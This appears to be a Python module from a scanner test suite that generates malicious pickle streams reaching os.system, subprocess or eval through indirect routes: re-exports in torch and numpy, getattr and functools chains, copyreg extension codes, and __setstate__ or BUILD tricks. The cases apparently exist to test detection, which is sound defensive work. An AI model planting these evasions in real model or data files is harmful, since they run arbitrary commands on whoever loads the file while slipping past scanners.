"""Indirection: the name that is called is never written beside the call."""

from __future__ import annotations

from collections.abc import Iterator

from attacks.case import CANARY, EXPRESSION, SHELL, Case, Raw, call, called, glob, long, one, push, stack_glob, stream

KIND = "indirection"
OS = call("importlib", "import_module", "os")
RE_EXPORTS = (
    ("torch", "os.system"), ("torch.serialization", "os.system"), ("torch.hub", "os.system"), ("torch._utils", "sys.modules.get"),
    ("random", "_os.system"), ("numpy", "f2py.os.system"), ("numpy.testing._private.utils", "os.system"),
    ("numpy.lib._npyio_impl", "os.system"), ("logging", "os.system"), ("pathlib", "os.system"), ("tempfile", "_os.system"),
    ("sklearn", "os.system"), ("joblib.memory", "os.system"), ("glob", "os.system"), ("collections", "_sys.modules.get"),
    ("posixpath", "os.system"), ("zipfile", "os.system"),
)  # fmt: skip


def names() -> Iterator[Case]:
    for module, name in RE_EXPORTS:
        target = stack_glob(module, name)
        if name.endswith(".get"):
            target = call("builtins", "getattr", called(target, "os"), "system")
        yield one(KIND, f"dotted-{module}-{name}".replace(".", "-"), stream(called(target, SHELL)))
    yield one(KIND, "global-alias-pty", stream(call("pty", "os.system", SHELL)))
    yield one(KIND, "python2-commands", stream(call("commands", "getoutput", SHELL), 2))
    yield one(KIND, "resolve-name", stream(called(call("pkgutil", "resolve_name", "os:system"), SHELL)))
    yield one(KIND, "pydoc-locate", stream(called(call("pydoc", "locate", "os.system"), SHELL)))
    yield one(
        KIND,
        "modules-alias",
        stream(
            stack_glob("sys", "modules")
            + long("harmless")
            + OS
            + b"s0"
            + glob("harmless", "system")
            + push((SHELL,))
            + b"R",
            4,
        ),
    )
    yield one(
        KIND, "numpy-builtins", stream(called(called(stack_glob("numpy", "__builtins__.get"), "eval"), EXPRESSION))
    )
    yield one(
        KIND,
        "builtins-getitem",
        stream(called(called(stack_glob("builtins", "__dict__.__getitem__"), "eval"), EXPRESSION)),
    )
    yield one(
        KIND,
        "globals-of-function",
        stream(
            called(
                call(
                    "builtins",
                    "getattr",
                    called(stack_glob("random", "choice.__func__.__globals__.__getitem__"), "_os"),
                    "system",
                ),
                SHELL,
            )
        ),
    )
    yield one(KIND, "windows-nt-system", stream(call("nt", "system", SHELL), 2), loader="none")


def chains() -> Iterator[Case]:
    got = call("builtins", "getattr", OS, "system")
    yield one(KIND, "getattr", stream(called(got, SHELL)))
    yield one(KIND, "attrgetter", stream(called(called(call("operator", "attrgetter", "system"), OS), SHELL)))
    yield one(KIND, "methodcaller", stream(called(call("operator", "methodcaller", "system", SHELL), OS)))
    yield one(KIND, "partial", stream(called(call("functools", "partial", glob("os", "system"), SHELL))))
    yield one(
        KIND, "reduce", stream(called(call("functools", "reduce", glob("builtins", "getattr"), ["system"], OS), SHELL))
    )
    yield one(
        KIND,
        "itemgetter",
        stream(called(called(call("operator", "itemgetter", "system"), stack_glob("os", "__dict__")), SHELL)),
    )
    yield one(KIND, "operator-call", stream(call("operator", "call", glob("os", "system"), SHELL)))
    yield one(
        KIND, "list-map", stream(call("builtins", "list", call("builtins", "map", glob("os", "system"), [SHELL])))
    )
    yield one(
        KIND,
        "starmap",
        stream(call("builtins", "list", call("itertools", "starmap", glob("os", "system"), [(SHELL,)]))),
    )
    yield one(
        KIND, "filter-set", stream(call("builtins", "set", call("builtins", "filter", glob("os", "system"), [SHELL])))
    )
    yield one(
        KIND, "deque-map", stream(call("collections", "deque", call("builtins", "map", glob("os", "system"), [SHELL])))
    )
    yield one(
        KIND,
        "iter-sentinel",
        stream(
            call(
                "builtins",
                "list",
                call("builtins", "iter", call("functools", "partial", glob("os", "system"), SHELL), 0),
            )
        ),
    )
    yield one(
        KIND,
        "import-dunder",
        stream(called(call("builtins", "getattr", call("builtins", "__import__", "os"), "system"), SHELL), 2),
    )
    yield one(
        KIND,
        "finalize",
        stream(call("weakref", "finalize", call("collections", "OrderedDict"), glob("os", "system"), SHELL)),
    )
    yield one(KIND, "atexit", stream(call("atexit", "register", glob("os", "system"), SHELL)))
    yield one(
        KIND,
        "executor-submit",
        stream(
            call(
                "concurrent.futures",
                "ThreadPoolExecutor.submit",
                call("concurrent.futures", "ThreadPoolExecutor", 1),
                glob("os", "system"),
                SHELL,
            )
        ),
        loader="none",
    )
    yield one(
        KIND,
        "thread-run",
        stream(
            call("threading", "Thread.run", call("threading", "Thread", None, glob("os", "system"), None, (SHELL,)))
        ),
    )
    yield one(
        KIND,
        "rebuild-from-type",
        stream(
            call(
                "torch._tensor", "_rebuild_from_type_v2", glob("os", "system"), glob("builtins", "int"), (SHELL,), None
            )
        ),
    )
    yield one(
        KIND,
        "class-getattr-type",
        stream(call("builtins", "type.__call__", glob("subprocess", "Popen"), ["touch", CANARY])),
    )


def extensions() -> Iterator[Case]:
    for size, code in ((1, 201), (2, 4099), (4, 70001)):
        register = call("copyreg", "add_extension", "os", "system", code)
        opcode = {1: b"\x82", 2: b"\x83", 4: b"\x84"}[size] + code.to_bytes(size, "little")
        yield one(KIND, f"extension-registry-{size}", stream(register + b"0" + opcode + push((SHELL,)) + b"R"))
    registry = stack_glob("copyreg", "_inverted_registry") + push(7) + push(("os", "system")) + b"s0"
    yield one(KIND, "extension-registry-written", stream(registry + b"\x82\x07" + push((SHELL,)) + b"R"))


def objects() -> Iterator[Case]:
    """An instance that carries a callable under a name that the machine itself looks up and calls."""
    fresh = glob("argparse", "Namespace") + b")\x81"
    carrying = lambda name: Raw(fresh + push({name: glob("os", "system")}) + b"b")  # noqa: E731
    yield one(KIND, "build-setstate", stream(carrying("__setstate__") + push(SHELL) + b"b"))
    yield one(KIND, "append-attribute", stream(carrying("append") + push(SHELL) + b"a"))
    yield one(KIND, "appends-attribute", stream(carrying("append") + b"(" + push(SHELL) + b"e"))
    yield one(KIND, "additems-attribute", stream(carrying("add") + b"(" + push(SHELL) + b"\x90"))
    slots = fresh + push((None, {"__setstate__": glob("os", "system")})) + b"b" + push(SHELL) + b"b"
    yield one(KIND, "build-slot-state", stream(slots))
    partial = glob("functools", "partial") + push((glob("builtins", "print"),)) + b"\x81"
    partial += push((glob("os", "system"), (SHELL,), {}, None)) + b"b"
    yield one(KIND, "partial-setstate", stream(called(Raw(partial))))
    on_module = OS + push({"harmless": glob("os", "system")}) + b"b0" + glob("os", "harmless") + push((SHELL,)) + b"R"
    yield one(KIND, "build-on-module", stream(on_module))
    yield one(
        KIND,
        "build-on-class",
        stream(
            glob("argparse", "Namespace")
            + push((None, {"append": glob("os", "system")}))
            + b"b0"
            + glob("argparse", "Namespace")
            + b")\x81"
            + push(SHELL)
            + b"a"
        ),
    )
    setattr_print = (
        call("builtins", "setattr", call("importlib", "import_module", "builtins"), "print", glob("os", "system"))
        + b"0"
    )
    yield one(KIND, "replaced-builtin", stream(setattr_print + call("builtins", "print", SHELL)))


def cases() -> Iterator[Case]:
    yield from names()
    yield from chains()
    yield from extensions()
    yield from objects()
